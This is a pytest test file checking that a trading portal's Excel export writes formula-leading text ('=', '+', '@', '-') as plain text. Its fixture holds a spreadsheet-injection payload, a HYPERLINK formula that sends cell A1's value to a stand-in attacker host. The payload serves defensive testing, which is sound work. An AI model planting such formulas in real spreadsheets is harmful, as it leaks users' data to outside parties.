"""A trade document's Excel file never runs a party's text as a formula (issue 12,
item 4): a buyer's line description "=HYPERLINK(...)" is text in the supplier's file."""

import io

from openpyxl import load_workbook

from tests.trading.portal_support import trade_document

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def test_document_xlsx_writes_formula_leading_text_as_text(app, api, make):
    supplier = make.company_with_admin("Formosa Fasteners", roles=("supplier",))
    buyer = make.company_with_admin("Rotterdam Tools", roles=("buyer",))
    document = trade_document(
        app, buyer.company_id, supplier.company_id, type="inquiry", subject="@SUM(1+1)",
        notes="-2+3 cmd", lines=[{"description": EVIL, "sku": "+SKU", "quantity": 5,
                                  "unit_price": "1.50"}])
    response = api.get(f"/documents/{document}/export?format=xlsx", api.token(supplier))
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    by_value = {cell.value: cell for cell in cells}
    for text in (EVIL, "+SKU", "@SUM(1+1)", "-2+3 cmd"):
        assert by_value[text].data_type == "s" and by_value[text].quotePrefix, text
    quantity = next(c for c in cells if c.value == 5)
    assert quantity.data_type == "n"  # numbers stay numbers
